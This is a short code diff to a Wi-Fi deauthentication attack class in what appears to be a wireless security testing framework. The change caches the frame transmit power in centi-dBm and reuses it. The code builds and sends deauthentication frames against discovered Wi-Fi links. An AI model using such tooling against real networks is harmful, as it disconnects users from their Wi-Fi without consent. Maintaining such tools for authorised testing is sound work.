@@ -56,11 +56,12 @@ class Deauthenticate(Periodic):
     period_ms: Number = param("Time between two rounds of frames, in milliseconds.", default=100.0, ge=1, le=60_000)
 
     targets: Sequence[AirLink]
+    power_cdbm: int
 
     def prepare(self, context: AttackContext) -> None:
         """Find the links."""
         self.targets = list(find_wifi_links(context, self.links).values())
-        self.period_ns = round(self.period_ms * NS_PER_MS)
+        self.period_ns, self.power_cdbm = round(self.period_ms * NS_PER_MS), round(self.power_dbm * 100)
 
     def send(self, now: Time, number: int) -> Iterator[bytes]:
         """The frames of a period."""
@@ -73,4 +74,4 @@ class Deauthenticate(Periodic):
     def _frame(self, link: AirLink, destination: bytes, source: bytes) -> bytes:
         destination = NOBODY if self.sham else destination
         frame = encode_deauthentication(destination, source, link.station_address, self.turn)
-        return pack_request(FrameRequest(link.channel, round(self.power_dbm * 100), frame))
+        return pack_request(FrameRequest(link.channel, self.power_cdbm, frame))
